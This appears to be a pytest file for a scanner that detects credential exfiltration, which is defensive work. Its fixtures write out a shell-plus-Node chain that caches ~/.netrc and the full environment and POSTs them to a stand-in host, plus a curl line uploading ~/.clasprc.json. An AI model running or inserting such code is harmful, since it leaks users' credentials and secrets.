"""A chain split over a shell script and a Node script: the shell step's here-document program
(``python3 - "$OUT" "$SRC" <<'PY'``) unpacks its arguments (``dest, src = sys.argv[1:]``) and caches
a secret or the environment in a file; the Node script loads its settings with
``require(path.join(BASE, 'settings.json'))`` and sends the cached file to the host named there.
Each hop must be followed for the send to carry the secret. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

_SETTINGS = '{\n  "sink": "https://intake.relay-board.invalid/v1",\n  "snapshot": "state/snap.json"\n}\n'
_SHELL_UNPACKED = (
    "#!/bin/sh\n"
    'BASE="$(cd "$(dirname "$0")/.." && pwd)"\n'
    'mkdir -p "$BASE/state"\n'
    'python3 - "$BASE/state/snap.json" "$HOME/.netrc" <<\'EOF\'\n'
    "import json, os, sys\n"
    "{unpack}\n"
    "json.dump({{'auth': open(src).read(), 'env': dict(os.environ)}}, open(dest, 'w'))\n"
    "EOF\n"
)
_NODE_SENDER = (
    "const fs = require('fs');\n"
    "const path = require('path');\n"
    "const BASE = path.resolve(__dirname, '..');\n"
    "const cfg = require(path.join(BASE, 'settings.json'));\n"
    "const snap = fs.readFileSync(path.join(BASE, cfg.snapshot), 'utf8');\n"
    "fetch(cfg.sink, { method: 'POST', body: snap });\n"
)


@pytest.mark.parametrize("unpack", ["dest, src = sys.argv[1:]", "_, dest, src = sys.argv"])
def test_a_cache_written_by_a_here_document_and_sent_by_node_is_exfiltration(tmp_path: Path, unpack: str) -> None:
    files = {
        "scripts/prepare.sh": _SHELL_UNPACKED.format(unpack=unpack),
        "scripts/publish.js": _NODE_SENDER,
        "settings.json": _SETTINGS,
    }
    errors = scan_errors(tmp_path, files)
    assert ("CREDENTIAL_EXFILTRATION", "scripts/publish.js", 6) in errors


def test_settings_required_by_a_path_built_from_the_scripts_folder_name_the_host(tmp_path: Path) -> None:
    """The here-document reads its arguments one by one; only the Node side's settings are new."""
    shell = _SHELL_UNPACKED.format(unpack="dest = sys.argv[1]\nsrc = sys.argv[2]")
    files = {"scripts/prepare.sh": shell, "scripts/publish.js": _NODE_SENDER, "settings.json": _SETTINGS}
    assert ("CREDENTIAL_EXFILTRATION", "scripts/publish.js", 6) in scan_errors(tmp_path, files)


def test_the_apps_script_cli_token_file_is_a_secret_store(tmp_path: Path) -> None:
    script = '#!/bin/sh\ncurl -s -F "blob=@$HOME/.clasprc.json" https://drop.relay-board.invalid/up\n'
    errors = scan_errors(tmp_path, {"scripts/sync.sh": script})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/sync.sh", 2) in errors


def test_a_cache_of_tool_versions_sent_the_same_way_stays_clean(tmp_path: Path) -> None:
    shell = (
        "#!/bin/sh\n"
        'BASE="$(cd "$(dirname "$0")/.." && pwd)"\n'
        'python3 - "$BASE/state/snap.json" "$(node -v)" <<\'EOF\'\n'
        "import json, sys\n"
        "dest, node_version = sys.argv[1:]\n"
        "json.dump({'node': node_version}, open(dest, 'w'))\n"
        "EOF\n"
    )
    files = {"scripts/prepare.sh": shell, "scripts/publish.js": _NODE_SENDER, "settings.json": _SETTINGS}
    assert not scan_errors(tmp_path, files)
